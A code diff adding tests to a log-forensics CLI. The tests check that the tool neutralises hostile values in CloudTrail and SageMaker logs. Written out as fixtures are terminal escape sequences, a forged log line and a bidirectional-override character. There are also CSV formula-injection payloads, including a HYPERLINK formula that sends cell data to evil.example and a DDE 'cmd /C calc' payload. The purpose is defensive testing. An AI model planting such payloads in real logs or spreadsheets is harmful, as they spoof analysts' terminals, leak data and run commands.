@@ -214,3 +214,74 @@ test("pull's .metadata.json sidecars and the trail's digests: one line for each 
   ]);
   expect(r.json.rows).toHaveLength(1);
 }, 60_000);
+
+describe('values of the logs cannot forge output: text escapes control characters, CSV defuses formulas', () => {
+  const role = `arn:aws:iam::${X.account}:role/ml-analyst`;
+  const agents = ['\r\u001b[2K\u001b[1A\u001b[2K', `x\naws    2026-11-30T13:01:30Z  ${role}`, '=HYPERLINK("http://evil.example/?"&A1,"ok")', '\t=cmd|" /C calc"!A0', '\u001b]8;;http://evil.example/\u0007ua\u202e\u001b]8;;\u0007'];
+  beforeAll(() => {
+    const root = path.join(dir, 'hostile');
+    const key = cloudTrailLogKey(X.account, X.region, Date.parse('2026-11-30T13:05:00Z'), random(97));
+    writeCloudTrailLog(
+      root,
+      key,
+      agents.map((userAgent, i) => ({
+        eventVersion: '1.09',
+        eventTime: `2026-11-30T13:0${i}:00Z`,
+        eventSource: 's3.amazonaws.com',
+        eventName: 'GetObject',
+        awsRegion: X.region,
+        userIdentity: { type: 'AssumedRole', arn: `arn:aws:sts::${X.account}:assumed-role/ml-analyst/s`, accountId: X.account, accessKeyId: 'ASIAEXFIL0000000001', sessionContext: { sessionIssuer: { type: 'Role', arn: role, accountId: X.account } } },
+        sourceIPAddress: '198.51.100.23',
+        userAgent,
+        requestParameters: { bucketName: 'acme-ml-model-artifacts', key: 'm.tar.gz' },
+        resources: [{ type: 'AWS::S3::Object', ARN: 'arn:aws:s3:::acme-ml-model-artifacts/m.tar.gz' }],
+        eventType: 'AwsApiCall',
+        eventCategory: 'Data',
+      })),
+    );
+    // A data-capture line whose time DuckDB quotes in its error: the warning carries the attacker's bytes.
+    const capture = path.join(root, 'data-capture', 'fraud-scoring-prod', 'primary', '2026', '11', '30', '13');
+    fs.mkdirSync(capture, { recursive: true });
+    const line = (t: string, id: string) => JSON.stringify({ captureData: { endpointInput: { observedContentType: 'application/json', mode: 'INPUT', data: '{}', encoding: 'JSON' } }, eventMetadata: { eventId: id, inferenceId: id, inferenceTime: t }, eventVersion: '0' });
+    fs.writeFileSync(path.join(capture, 'a.jsonl'), `${line('2026-11-30T13:00:01Z', 'ok')}\n`);
+    fs.writeFileSync(path.join(capture, 'b.jsonl'), `${line('x\u001b[2K\r\nwarning: forged', 'bad')}\n`);
+  });
+  const ask = (...extra: string[]) => cli('investigate', 'principal-activity', '--logs', 'hostile', '--param', `principal=${role}`, '--from', '2026-11-30T00:00:00Z', '--to', '2026-12-01T00:00:00Z', ...extra);
+  // Nothing a terminal acts on, in any line: C0 but the newline, DEL, C1, bidirectional overrides.
+  const unsafe = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
+
+  test('text: one line per row, each value with its escapes visible', async () => {
+    const r = await ask();
+    expect(r.code).toBe(0);
+    const lines = r.out.trimEnd().split('\n');
+    expect(lines[0]).toBe(`principal-activity: 5 rows (principal=${role} from=2026-11-30T00:00:00Z to=2026-12-01T00:00:00Z)`);
+    const rows = lines.slice(lines.indexOf('') + 2);
+    expect(rows).toHaveLength(5);
+    expect(rows.every((l) => l.startsWith('aws    2026-11-30T13:0'))).toBe(true);
+    expect(r.out).not.toMatch(unsafe);
+    expect(rows[0]).toContain('\\r\\u001b[2K\\u001b[1A\\u001b[2K');
+    expect(rows[1]).toContain(`x\\naws    2026-11-30T13:01:30Z`);
+    expect(rows[4]).toContain('\\u001b]8;;http://evil.example/\\u0007ua\\u202e');
+  }, 60_000);
+
+  test('csv: a field starting with = + - @, a tab or a carriage return gets a leading quote; the values are otherwise exact', async () => {
+    const r = await ask('--format', 'csv');
+    expect(r.code).toBe(0);
+    expect(r.out).toContain(`,"'\r\u001b[2K\u001b[1A\u001b[2K",`);
+    expect(r.out).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""ok"")",`);
+    expect(r.out).toContain(`,"'\t=cmd|"" /C calc""!A0",`);
+    expect(r.out).toContain(`,"x\naws    2026-11-30T13:01:30Z  ${role}",`);
+  }, 60_000);
+
+  test('a warning quoting a value of the logs is one printable line, on stderr and in the text output', async () => {
+    const r = await cli('investigate', 'timeline', '--logs', 'hostile/data-capture');
+    const warning = 'hostile/data-capture/fraud-scoring-prod/primary/2026/11/30/13/b.jsonl: not readable as SageMaker endpoint data capture (';
+    const errLines = r.err.trimEnd().split('\n');
+    expect(errLines).toEqual([expect.stringContaining(`forensic-readiness: warning: ${warning}`)]);
+    expect(errLines[0]).toContain('\\u001b[2K');
+    expect(r.err).not.toMatch(unsafe);
+    expect(r.out.split('\n').filter((l) => l.startsWith('warning: '))).toEqual([expect.stringContaining(warning)]);
+    expect(r.out).not.toMatch(unsafe);
+    expect(r.out).not.toMatch(/^warning: forged/m);
+  }, 60_000);
+});
